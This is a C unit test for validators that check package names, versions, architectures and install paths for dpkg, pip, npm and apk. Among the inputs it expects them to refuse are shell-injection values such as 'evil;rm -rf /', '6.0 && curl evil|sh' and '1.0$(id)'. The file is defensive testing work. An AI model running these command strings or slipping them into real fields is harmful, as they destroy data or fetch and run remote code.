/* The package rules: each manager's own syntax, nothing a shell reads. */
#include <stdlib.h>
#include <string.h>

#include "model/validate.h"
#include "tap.h"
#include "util/xalloc.h"

#define YES(fn, s) ok(fn(s), #fn " accepts '%s'", s)
#define NO(fn, s) ok(!fn(s), #fn " refuses '%s'", s)

int
main(void)
{
	YES(pkg_valid_deb_name, "libc6");
	YES(pkg_valid_deb_name, "g++-12");
	YES(pkg_valid_deb_name, "libstdc++6");
	NO(pkg_valid_deb_name, "a");
	NO(pkg_valid_deb_name, "Libc6");
	NO(pkg_valid_deb_name, "-foo");
	NO(pkg_valid_deb_name, "evil;touch${IFS}/pwned");
	NO(pkg_valid_deb_name, "foo bar");
	NO(pkg_valid_deb_name, "");

	YES(pkg_valid_deb_version, "1.6-2.1+deb12u2");
	YES(pkg_valid_deb_version, "1:2.3~rc1-4+b1");
	YES(pkg_valid_deb_version, "2.36-9+deb12u14");
	YES(pkg_valid_deb_version, "1:9.2p1-2");
	YES(pkg_valid_deb_version, "1.0");
	YES(pkg_valid_deb_version, "1.2-3-4");	/* '-' in upstream with a revision */
	YES(pkg_valid_deb_version, "1:1.2:3-1");	/* ':' in upstream with an epoch */
	NO(pkg_valid_deb_version, "1.0 && touch /pwned");
	NO(pkg_valid_deb_version, "1.2:3");	/* ':' without an epoch */
	NO(pkg_valid_deb_version, "a:1.0");
	NO(pkg_valid_deb_version, "1.0-");
	NO(pkg_valid_deb_version, "1.0-r_1");
	NO(pkg_valid_deb_version, "abc");
	NO(pkg_valid_deb_version, "1.0$(id)");
	NO(pkg_valid_deb_version, "");

	YES(pkg_valid_deb_arch, "amd64");
	YES(pkg_valid_deb_arch, "all");
	YES(pkg_valid_deb_arch, "musl-linux-arm64");
	NO(pkg_valid_deb_arch, "amd64 ; rm");
	NO(pkg_valid_deb_arch, "");

	YES(pkg_valid_pep508_name, "requests");
	YES(pkg_valid_pep508_name, "zope.interface");
	YES(pkg_valid_pep508_name, "Foo_Bar-2");
	NO(pkg_valid_pep508_name, "-foo");
	NO(pkg_valid_pep508_name, "foo.");
	NO(pkg_valid_pep508_name, "evil;rm -rf /");
	NO(pkg_valid_pep508_name, "a==1");

	YES(pkg_valid_pep440_version, "2.32.3");
	YES(pkg_valid_pep440_version, "1!2.0");
	YES(pkg_valid_pep440_version, "1.0a1");
	YES(pkg_valid_pep440_version, "1.0rc2.post3.dev4");
	YES(pkg_valid_pep440_version, "1.0.post1");
	YES(pkg_valid_pep440_version, "1.0-1");
	YES(pkg_valid_pep440_version, "2.1.0+cu121");
	YES(pkg_valid_pep440_version, "1.0.0+local.7.abc");
	YES(pkg_valid_pep440_version, "v1.0");
	YES(pkg_valid_pep440_version, "1.0-alpha.2");
	NO(pkg_valid_pep440_version, "6.0 && curl evil|sh");
	NO(pkg_valid_pep440_version, "1.0+");
	NO(pkg_valid_pep440_version, "1.0+a..b");
	NO(pkg_valid_pep440_version, "latest");
	NO(pkg_valid_pep440_version, "1.0 ");
	NO(pkg_valid_pep440_version, "");

	YES(pkg_valid_npm_name, "typescript");
	YES(pkg_valid_npm_name, "@angular/cli");
	YES(pkg_valid_npm_name, "left-pad");
	YES(pkg_valid_npm_name, "lodash.merge");
	NO(pkg_valid_npm_name, "Typescript");
	NO(pkg_valid_npm_name, ".hidden");
	NO(pkg_valid_npm_name, "_private");
	NO(pkg_valid_npm_name, "@scope");
	NO(pkg_valid_npm_name, "@scope/");
	NO(pkg_valid_npm_name, "a/b");
	NO(pkg_valid_npm_name, "evil`reboot`");
	NO(pkg_valid_npm_name, "node_modules");

	YES(pkg_valid_npm_version, "5.4.5");
	YES(pkg_valid_npm_version, "1.0.0-beta.1");
	YES(pkg_valid_npm_version, "1.0.0-rc.1+build.5");
	NO(pkg_valid_npm_version, "01.0.0");
	NO(pkg_valid_npm_version, "1.0");
	NO(pkg_valid_npm_version, "1.0.0; rm -rf /");
	NO(pkg_valid_npm_version, "^1.0.0");
	NO(pkg_valid_npm_version, "1.0.0-");

	YES(pkg_valid_apk_name, "busybox");
	YES(pkg_valid_apk_name, "py3-requests");
	YES(pkg_valid_apk_name, "libstdc++");
	NO(pkg_valid_apk_name, "evil$(reboot)");
	NO(pkg_valid_apk_name, "-x");
	YES(pkg_valid_apk_version, "1.36.1-r15");
	YES(pkg_valid_apk_version, "1.2.4_git20230717-r4");
	YES(pkg_valid_apk_version, "3.0.0_alpha1_p2-r0");
	YES(pkg_valid_apk_version, "1.1.1w-r1");
	YES(pkg_valid_apk_version, "0.1~3f2a-r0");
	NO(pkg_valid_apk_version, "1.0_bogus");
	NO(pkg_valid_apk_version, "1.0 r1");
	NO(pkg_valid_apk_version, "r1");
	YES(pkg_valid_apk_arch, "x86_64");
	NO(pkg_valid_apk_arch, "x86 64");

	YES(pkg_valid_location, "/usr/local/lib/python3.11/site-packages");
	YES(pkg_valid_location, "/opt/venv/lib/python3.11/site-packages");
	NO(pkg_valid_location, "relative/site-packages");
	NO(pkg_valid_location, "/opt/my venv/site-packages");
	NO(pkg_valid_location, "/opt/$(id)/x");
	NO(pkg_valid_location, "/opt/../etc");

	/* Where the renderer's old copy was stricter, its rule stayed. */
	NO(pkg_valid_deb_version, "1:2.0:~3");	/* bash: ~ after ':' is $HOME */
	YES(pkg_valid_deb_version, "1:2.0~rc1");
	NO(pkg_valid_npm_name, "~root");	/* a tilde prefix */
	NO(pkg_valid_npm_name, "-g");		/* an option to npm */
	NO(pkg_valid_npm_name, "@scope/~x");
	{
		char s[130];

		memset(s, 'a', sizeof(s) - 1);
		s[128] = '\0';
		YES(pkg_valid_deb_name, s);
		YES(pkg_valid_pep508_name, s);
		s[128] = 'a';
		s[129] = '\0';
		NO(pkg_valid_deb_name, s);
		NO(pkg_valid_pep508_name, s);
		NO(pkg_valid_apk_name, s);
	}
	/* Where the package manager's grammar is stricter, it holds. */
	NO(pkg_valid_pep440_version, "1.0_1");
	NO(pkg_valid_npm_version, "1.0.0-a+b+c");
	NO(pkg_valid_npm_name, "favicon.ico");

	ok(pkg_valid_name("dpkg", "jq") && !pkg_valid_name("dpkg", "Jq"),
	    "pkg_valid_name takes the manager's rule");
	ok(pkg_valid_version("npm", "1.0.0") && !pkg_valid_version("npm", "1.0"),
	    "pkg_valid_version takes the manager's rule");
	ok(!pkg_valid_name("rpm", "bash") && !pkg_valid_version("rpm", "1"),
	    "an unknown manager has no valid name or version");

	{
		struct pkg p;
		char *why = NULL;

		pkg_init_fields(&p);
		free(p.manager);
		p.manager = xstrdup("rpm");
		ok(pkg_validate(&p, &why) < 0 && strcmp(why, "unknown package manager") == 0,
		    "unknown manager refused");
		free(why);
		pkg_release(&p);
	}
	return done_testing();
}
